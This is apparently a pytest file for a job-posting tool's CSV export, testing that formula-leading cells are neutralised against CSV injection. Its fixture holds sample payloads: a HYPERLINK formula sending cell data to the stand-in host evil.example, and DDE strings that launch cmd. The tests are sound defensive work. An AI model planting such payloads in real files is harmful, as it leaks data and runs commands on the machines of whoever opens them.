"""CSV output cannot run formulas in a spreadsheet (issue: `jobtrend export postings` and `jobtrend sql --format
csv` wrote cells starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as they were).

A text cell starting with one of those gets a leading ``'`` (OWASP's advice for CSV injection); numbers stay
numbers (-5 is written -5), and ``--raw-csv`` writes text as it is.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from sqlalchemy import update

from jobtrend.models import Posting
from tests.analysis.factories import add_posting, add_source

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "company": "+1+cmd|' /C calc'!A0",
    "location": "-2+3",
    "url": "@SUM(1+1)*cmd|' /C calc'!A0",
}
CONTROL_STARTS = ["\t=1+1", "\r=1+1"]


@pytest.fixture
def posting(engine):
    """A posting whose text columns are formulas, and whose age_days (a number in posting_facts) is -5."""
    source = add_source(engine)
    posting_id = add_posting(engine, source, text="ML", week=dt.date(2026, 3, 2))
    posted = dt.datetime(2026, 3, 6, 12, tzinfo=dt.UTC)
    with engine.begin() as conn:
        conn.execute(update(Posting).where(Posting.id == posting_id).values(
            **FORMULAS, posted_at=posted, last_seen_at=posted - dt.timedelta(days=5)))
    return posting_id


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _file_rows(path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:  # a carriage return in a cell stays one
        return list(csv.DictReader(fh))


def test_export_postings_neutralises_formulas_and_keeps_numbers(run, db_url, posting, tmp_path):
    out = tmp_path / "postings.csv"
    result = run(["export", "postings", "--out", str(out)], db_url)
    assert result.exit_code == 0, result.output
    [row] = _file_rows(out)
    for column, formula in FORMULAS.items():
        assert row[column] == "'" + formula
    assert row["age_days"] == "-5" and row["posting_id"] == str(posting)


def test_export_raw_csv_writes_text_as_it_is(run, db_url, posting, tmp_path):
    out = tmp_path / "postings.csv"
    result = run(["export", "postings", "--out", str(out), "--raw-csv"], db_url)
    assert result.exit_code == 0, result.output
    [row] = _file_rows(out)
    assert {column: row[column] for column in FORMULAS} == FORMULAS and row["age_days"] == "-5"


def test_sql_csv_neutralises_formulas_and_keeps_numbers(run, posting, query_url):
    query = "select title, company, location, url, -5 as n, '-5' as t, 2.5 as x from postings"
    result = run(["sql", query, "--format", "csv"], query_url)
    assert result.exit_code == 0, result.output
    [row] = _rows(result.stdout)
    assert {column: row[column] for column in FORMULAS} == {c: "'" + f for c, f in FORMULAS.items()}
    assert row["n"] == "-5" and row["t"] == "'-5" and row["x"] == "2.5"


def test_sql_raw_csv_writes_text_as_it_is(run, posting, query_url):
    result = run(["sql", "select title, company, location, url, -5 as n from postings", "--format", "csv",
                  "--raw-csv"], query_url)
    assert result.exit_code == 0, result.output
    [row] = _rows(result.stdout)
    assert {column: row[column] for column in FORMULAS} == FORMULAS and row["n"] == "-5"


@pytest.mark.parametrize("db_kind", ["sqlite"], indirect=True)
@pytest.mark.parametrize("cell", CONTROL_STARTS)
def test_a_cell_starting_with_a_tab_or_carriage_return_is_neutralised(run, engine, db_url, tmp_path, cell):
    posting_id = add_posting(engine, add_source(engine), text="ML")
    with engine.begin() as conn:
        conn.execute(update(Posting).where(Posting.id == posting_id).values(title=cell))
    out = tmp_path / "p.csv"
    assert run(["export", "postings", "--out", str(out)], db_url).exit_code == 0
    assert _file_rows(out)[0]["title"] == "'" + cell
    shown = run(["sql", "select title from postings", "--format", "csv"], db_url)
    assert _rows(shown.stdout)[0]["title"].startswith("'")
